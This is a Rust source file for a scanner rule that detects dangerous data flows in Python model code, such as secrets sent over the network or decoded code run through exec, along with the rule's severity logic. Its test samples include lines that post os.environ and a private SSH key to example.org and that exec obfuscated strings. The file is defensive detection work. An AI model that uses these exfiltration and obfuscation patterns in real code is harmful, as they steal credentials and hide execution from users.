use std::collections::BTreeSet;

use weighhouse_core::Severity;
use weighhouse_formats::python::{Flow, PythonFacts, Scope};
use weighhouse_formats::region::Region;

use super::acts::{Role, role, when};
use crate::rule::{Context, Rule, quote};

crate::rule! {
    /// Python code carries data from where it should stay to where it should not go.
    ///
    /// # What it detects
    ///
    /// Values from the environment, from files of credentials, from the network or from encoded constants that reach the network, an
    /// interpreter, a deserialiser or a file, within one file; and code that is put together from numbers before it is run.
    ///
    /// # Why it matters
    ///
    /// This is what theft and droppers look like: keys sent out, code fetched or decoded and run.
    ///
    /// # Example
    ///
    /// `requests.post(url, data=dict(os.environ))`
    ///
    /// # What to do
    ///
    /// Do not run it. If keys may have been sent, replace them.
    ///
    /// # References
    ///
    /// - <https://huggingface.co/docs/transformers/custom_models>
    /// - <https://cwe.mitre.org/data/definitions/506.html>
    pub(crate) DangerousFlow {
        id: "WH-COD-004",
        slug: "dangerous-flow",
        since: "0.1.0",
        severity: High,
        confidence: Medium,
        formats: [Python, Notebook],
        cwe: [506, 200],
        owasp: ["LLM03", "LLM04"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for DangerousFlow {
    fn python(&self, facts: &PythonFacts, cx: &mut Context<'_>) {
        let role = role(cx.name(), cx.node());
        let told = told(facts);
        for flow in &facts.flows {
            let Some(severity) = weigh(flow, role, &told) else { continue };
            cx.report(format!(
                "data of the kind {} reaches {} through {}",
                quote(flow.source),
                quote(flow.sink),
                quote(&flow.callee)
            ))
            .severity(severity)
            .at(flow.region)
            .line(flow.line)
            .key(format!("{} {} {}", flow.source, flow.sink, flow.callee))
            .evidence(when(&flow.scope))
            .emit();
        }
    }
}

fn weigh(flow: &Flow, role: Role, told: &Told<'_>) -> Option<Severity> {
    use Severity::{Critical, High, Low, Medium};
    let at_import = flow.scope == Scope::Import;
    let model = role == Role::Model || at_import && role == Role::Loaded;
    let by_model = |model_code, other| Some(if model { model_code } else { other });
    match (flow.source, flow.sink) {
        ("whole environment", "network") if at_import => Some(Critical),
        ("credential file", "network") => Some(Critical),
        ("whole environment", "network") => Some(High),
        // A stored token is what a client sends to its service.
        ("stored credential", "network") => by_model(High, if at_import { Medium } else { Low }),
        ("network", "execution") if runs_text(&flow.callee) || at_import => Some(Critical),
        // A free port asked of a socket, or the name of a file that was fetched, ends up in a command as well.
        ("network", "execution") => by_model(High, Medium),
        ("decoded literal", "execution") if runs_text(&flow.callee) || at_import => Some(Critical),
        ("decoded literal", "execution") => by_model(High, Medium),
        // Whoever spells code in numbers does not want it to be read.
        ("assembled text", "execution") => Some(High),
        ("hub", "execution") if flow.callee.starts_with("builtins.") => Some(High),
        ("hub", "execution") if runs_text(&flow.callee) => by_model(High, Medium),
        ("environment", "network") if at_import => by_model(Critical, Medium),
        ("environment", "network") if flow.callee.starts_with("socket.") => by_model(High, Medium),
        // A key in the environment that is sent to its service is ordinary in a client.
        ("environment", "network") => by_model(Medium, Low),
        ("network" | "decoded literal" | "hub", "deserialisation") if trusts(flow, told) => {
            by_model(High, Medium)
        }
        ("network", "deserialisation") => by_model(Medium, Low),
        ("environment", "execution") => by_model(Medium, Low),
        ("network", "file") if role != Role::Script => Some(Low),
        _ => None,
    }
}

/// Runs its argument as a program, where a subprocess only gets it as one word among others.
fn runs_text(callee: &str) -> bool {
    matches!(
        callee,
        "builtins.exec"
            | "builtins.eval"
            | "builtins.compile"
            | "os.system"
            | "os.popen"
            | "subprocess.getoutput"
    )
}

/// Whether a deserialiser runs what its input says: newer frameworks only do so if they are told to.
fn trusts(flow: &Flow, told: &Told<'_>) -> bool {
    let safe_by_default = ["torch.", "numpy.", "keras.", "tensorflow."];
    if !safe_by_default.iter().any(|prefix| flow.callee.starts_with(prefix)) {
        return true;
    }
    told.contains(&(flow.region, flow.callee.as_str()))
}

/// Calls that tell a deserialiser to run what its input says, by place and callee.
type Told<'f> = BTreeSet<(Region, &'f str)>;

fn told(facts: &PythonFacts) -> Told<'_> {
    let tells = |keyword: Option<&str>, value: Option<&str>| {
        matches!(
            (keyword, value),
            (Some("weights_only" | "safe_mode"), Some("False")) | (Some("allow_pickle"), Some("True"))
        )
    };
    let calls = facts.calls.iter().filter(|call| {
        call.arguments.iter().any(|argument| tells(argument.keyword.as_deref(), argument.value.as_deref()))
    });
    calls.map(|call| (call.region, call.callee.as_str())).collect()
}

crate::samples! {
    DangerousFlow,
    bad: {
        "the environment is sent away" => [("modeling_x.py", b"import os, requests\nrequests.post('https://example.org', json=dict(os.environ))\n".to_vec())],
        "a decoded program is run" => [("modeling_x.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n".to_vec())],
        "code in numbers" => [("train.py", b"exec(''.join(chr(c) for c in [112, 97, 115, 115]))\n".to_vec())],
        "code under a mask" => [("modeling_x.py", b"exec(bytes(b ^ 7 for b in b'wftt').decode())\n".to_vec())],
        "keys are sent away" => [("modeling_x.py", b"import requests, os\ndef f():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('https://example.org', data=key)\n".to_vec())],
    },
    ok: {
        "an ordinary model" => [("modeling_x.py", super::super::acts::ORDINARY.as_bytes().to_vec())],
    },
}
